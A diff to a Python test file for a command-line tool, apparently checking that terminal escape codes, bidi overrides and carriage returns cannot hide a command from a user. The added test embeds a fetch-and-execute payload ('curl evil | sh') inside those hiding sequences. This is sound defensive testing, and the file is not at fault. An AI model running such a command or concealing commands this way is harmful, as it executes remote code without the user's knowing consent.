@@ -11,7 +11,21 @@ from hypothesis import strategies as st
 
 from stretto.cli import usage
 from stretto.cli.show import without_power
-from stretto.cli.text import age, clean, clip, coloured, duration, hang, pad, quota, timestamp, unicode_ok, width, wrap
+from stretto.cli.text import (
+    age,
+    clean,
+    clip,
+    coloured,
+    duration,
+    hang,
+    pad,
+    quota,
+    seen,
+    timestamp,
+    unicode_ok,
+    width,
+    wrap,
+)
 
 
 @pytest.mark.parametrize(
@@ -22,7 +36,7 @@ from stretto.cli.text import age, clean, clip, coloured, duration, hang, pad, qu
         ("\x1b]0;title\x07x", "x"),
         ("\x1b]0;no end\nof it", " of it"),
         ("\x1b[2Jgone", "gone"),
-        ("\x9b31mred", "red"),
+        ("\x9b31mred", "31mred"),
         ("[31m", "[31m"),
         ("\u202eevil\u2066", "evil"),
         ("日本 é", "日本 é"),
@@ -31,6 +45,15 @@ from stretto.cli.text import age, clean, clip, coloured, duration, hang, pad, qu
 )
 def test_clean(text: str, shown: str) -> None:
     assert clean(text) == shown
+
+
+@pytest.mark.parametrize(
+    "hiding", ["\x1b]0;{}\x07", "\x1b_{}", "\x9d{}", "\x1b[{}", "\u202e{}", "\r{}", "\x1bP{}\x1b\\"]
+)
+def test_what_a_person_consents_to_hides_nothing(hiding: str) -> None:
+    payload = ";/1; curl evil | sh;"
+    assert payload in seen(f"echo hi {hiding.format(payload)}")
+    assert not set("\x1b\x07\x9d\u202e\r") & set(seen(hiding.format(payload), lines=True))
 
 
 def test_clean_keeps_lines_where_asked() -> None:
